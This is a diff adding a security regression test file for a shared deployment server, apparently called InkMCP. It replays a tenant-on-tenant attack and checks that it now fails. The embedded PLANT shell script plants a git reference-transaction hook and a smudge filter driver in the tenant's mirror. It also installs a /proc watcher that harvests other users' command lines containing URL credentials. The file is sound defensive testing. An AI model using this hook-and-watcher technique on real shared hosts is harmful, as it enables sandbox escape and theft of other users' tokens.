@@ -1,0 +1,201 @@
+"""Red team 2026-12-02: attacks from angles the first two (redteam-local-2026-11-30, test_attacks_dec1) did not try.
+
+Each test performs the attack as mallory (her agent's MCP calls, code in her own app or build) against the shared
+root server of this package and asserts from her side that it failed.
+
+Found broken and fixed here:
+    git hooks    InkMCP runs git in the project's mirror as the project's Unix user but outside its sandbox (no
+                 cgroup, the host's /proc and /tmp). The mirror is the tenant's own directory, and its path is in
+                 the build's environment (PIP_CACHE_DIR = <project>/cache/pip, the mirrors are beside it): mallory's
+                 build_command put a `reference-transaction` hook into her mirror, her next deploy's `git fetch`
+                 ran it, and from there a daemon with the host's /proc (no hidepid) read alice's `git fetch
+                 http://alice:<token>@...` command line while alice deployed. Fix: source._git_base turns hooks
+                 off for every git InkMCP runs (core.hooksPath=/dev/null), with the other config-driven commands a
+                 tenant can plant in the mirror's config (core.fsmonitor, core.alternateRefsCommand, core.gitProxy);
+                 and credentials in an http(s) repo_url reach git as a header in its environment, not in its argv.
+    git filters  The same, through `git archive` (how a commit over 16 MiB is checked out): a `filter=evil`
+                 attribute in mallory's .gitattributes and `filter.evil.smudge` in her mirror's config ran her
+                 command outside her sandbox. Fix: source._export runs git archive against a neutral git dir of
+                 InkMCP's (no drivers) with the mirror's objects (GIT_OBJECT_DIRECTORY).
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import secrets
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.security.conftest import LAB_START, ROOT, deploy, deploy_live, lab_exec, lab_repo, session
+from tests.support import ServerProc, git_commit, git_repo
+
+pytestmark = [pytest.mark.asyncio, pytest.mark.slow, ROOT]  # slow: shares the real root server
+
+ALICE = "dec2-alice"
+MALLORY = "dec2-mallory"
+ALICE_TOKEN = f"ghp_ALICE_{secrets.token_hex(10)}"
+"""alice's git host token, in her repo_url's userinfo (the way the README tells agents to pass a private repo)."""
+
+
+@contextlib.contextmanager
+def slow_git_host(root: Path, delay: float, auth: list[str]) -> Iterator[int]:
+    """A dumb-HTTP git host on loopback serving the bare repos under `root`; each info/refs waits `delay` seconds
+    (a slow remote: the fetch, and its command line, lasts that long). Authorization headers go to `auth`."""
+
+    class Handler(SimpleHTTPRequestHandler):
+        def __init__(self, *args: Any, **kwargs: Any) -> None:
+            super().__init__(*args, directory=str(root), **kwargs)
+
+        def do_GET(self) -> None:
+            auth.append(self.headers.get("Authorization", ""))
+            if "/info/refs" in self.path:
+                time.sleep(delay)
+            super().do_GET()
+
+        def log_message(self, fmt: str, *args: Any) -> None:
+            pass
+
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield httpd.server_address[1]
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def bare_copy(src: Path, dest: Path) -> Path:
+    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(dest)], check=True)
+    subprocess.run(["git", "-C", str(dest), "update-server-info"], check=True)
+    return dest
+
+
+# mallory's build step: find her project's mirrors beside the build caches and plant a hook in each. The hook (run
+# by InkMCP's next `git fetch` into the mirror) notes where it runs and starts a watcher that reads every command
+# line in /proc for a minute, keeping those with an `@` (URL userinfo) in them.
+PLANT = r'''
+set -e
+report="$HOME/hook-report"
+mkdir -p "$report"
+mirrors="$(dirname "$(dirname "$PIP_CACHE_DIR")")/mirrors"
+echo "$mirrors" > "$report/mirrors"
+cat > "$report/watch.py" <<'EOF'
+import os, sys, time
+report = sys.argv[1]
+seen, others = set(), set()
+end = time.time() + 60
+while time.time() < end and not os.path.exists(os.path.join(report, "stop")):
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            st = os.stat(f"/proc/{pid}")
+            if st.st_uid != os.getuid():
+                others.add(pid)
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if "@" in cmd and cmd not in seen:
+            seen.add(cmd)
+            with open(os.path.join(report, "cmdlines"), "a") as f:
+                f.write(cmd + "\n")
+    with open(os.path.join(report, "others"), "w") as f:
+        f.write(str(len(others)))
+    time.sleep(0.01)
+EOF
+cat > "$report/smudge.sh" <<EOF
+{ id -u; cat /proc/self/cgroup; grep ' /proc ' /proc/self/mountinfo; } > "$report/smudge.txt" 2>&1
+exec cat
+EOF
+for m in "$mirrors"/*; do
+  git config --file "$m/config" filter.evil.smudge "sh $report/smudge.sh"
+  mkdir -p "$m/hooks"
+  cat > "$m/hooks/reference-transaction" <<EOF
+#!/bin/sh
+cat > /dev/null
+mkdir "$report/ran" 2>/dev/null || exit 0
+{ id -u; cat /proc/self/cgroup; grep ' /proc ' /proc/self/mountinfo; } > "$report/hook.txt" 2>&1
+setsid python3 "$report/watch.py" "$report" < /dev/null > /dev/null 2>&1 &
+exit 0
+EOF
+  chmod 755 "$m/hooks/reference-transaction"
+done
+echo planted
+'''
+
+READ_REPORT = r'''
+import os
+report = os.path.join(os.environ["HOME"], "hook-report")
+def read(name):
+    with open(os.path.join(report, name)) as f:
+        return f.read()
+result = {name: attempt(read, name) for name in ("mirrors", "hook.txt", "cmdlines", "others", "smudge.txt")}
+result["big"] = attempt(lambda: os.path.getsize("big.bin"))  # in the app's dir: the checkout went through
+open(os.path.join(report, "stop"), "w").close()
+'''
+
+
+@pytest.fixture(scope="module")
+async def labs(server: ServerProc, repos: Path) -> dict[str, Any]:
+    """mallory's lab, whose build plants the hooks (it has run once: her mirror exists and holds them)."""
+    # .gitattributes names her filter driver; big.bin (17 MiB of zeros) puts the commit over the 16 MiB that are
+    # checked out from memory, so every deploy exports it with `git archive`
+    repo = lab_repo(repos, "dec2-mallory", {"plant.sh": PLANT, ".gitattributes": "*.txt filter=evil\n",
+                                            "notes.txt": "mallory notes\n", "big.bin": "\0" * (17 << 20)})
+    async with session(server, "mallory") as m:
+        lab = await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
+                                build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
+    return {"mallory": lab, "mallory_repo": repo}
+
+
+async def test_git_hooks_in_the_tenants_mirror_never_run(server: ServerProc, repos: Path,
+                                                         labs: dict[str, Any]) -> None:
+    """mallory's build planted a reference-transaction hook in her own mirror; she pushes a commit and redeploys
+    (InkMCP fetches into the mirror), then alice deploys a private repo with a token in its URL. The hook must not
+    run: before the fix it did, outside mallory's sandbox, and its watcher read alice's token from /proc."""
+    repo = labs["mallory_repo"]
+    git_commit(repo, {"again.txt": "redeploy\n"})
+    async with session(server, "mallory") as m:
+        await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
+                          build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
+    hosted = repos / "dec2-hosted"
+    hosted.mkdir(exist_ok=True)
+    bare = bare_copy(git_repo(repos / "dec2-alice-src", {"app.py": "print('alice')\n"}), hosted / "alice.git")
+    subprocess.run(["chmod", "-R", "go+rX", str(hosted)], check=True)
+    auth: list[str] = []
+    with slow_git_host(hosted, delay=2.0, auth=auth) as port:
+        url = f"http://alice:{ALICE_TOKEN}@127.0.0.1:{port}/{bare.name}"
+        async with session(server, "alice") as a:
+            dep = await deploy(a, repo_url=url, project_name=ALICE, service_type="backend",
+                               start_command="python3 -c 'import time; time.sleep(3600)'")
+    assert dep["status"] == "live", dep
+    # alice's token still reaches her git host (as a header, from git's environment instead of its command line)
+    expected = "Basic " + base64.b64encode(f"alice:{ALICE_TOKEN}".encode()).decode()
+    assert auth and set(auth) == {expected}, auth
+    seen = lab_exec(server, labs["mallory"]["url"], READ_REPORT)
+    assert seen["mirrors"][0] == "ok", seen  # the plant step ran and found the mirrors
+    assert ALICE_TOKEN not in str(seen), f"mallory read alice's token: {seen['cmdlines']}"
+    assert seen["hook.txt"][0] == "ENOENT", f"mallory's hook ran in InkMCP's git fetch: {seen}"
+
+
+async def test_filter_drivers_in_the_tenants_mirror_never_run(server: ServerProc, labs: dict[str, Any]) -> None:
+    """mallory's build set `filter.evil.smudge` in her mirror's config, and her .gitattributes applies it to *.txt;
+    she redeploys a commit over 16 MiB (checked out with `git archive`, which applies filter drivers). Her smudge
+    command must not run: before the fix it did, as her user but outside her sandbox (InkMCP's cgroup, host /proc)."""
+    repo = labs["mallory_repo"]
+    git_commit(repo, {"notes.txt": "mallory notes v2\n"})
+    async with session(server, "mallory") as m:
+        await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
+                          build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
+    seen = lab_exec(server, labs["mallory"]["url"], READ_REPORT)
+    assert seen["big"] == ["ok", 17 << 20], seen  # the commit was checked out (through git archive)
+    assert seen["smudge.txt"][0] == "ENOENT", f"mallory's filter ran in InkMCP's git archive: {seen['smudge.txt']}"
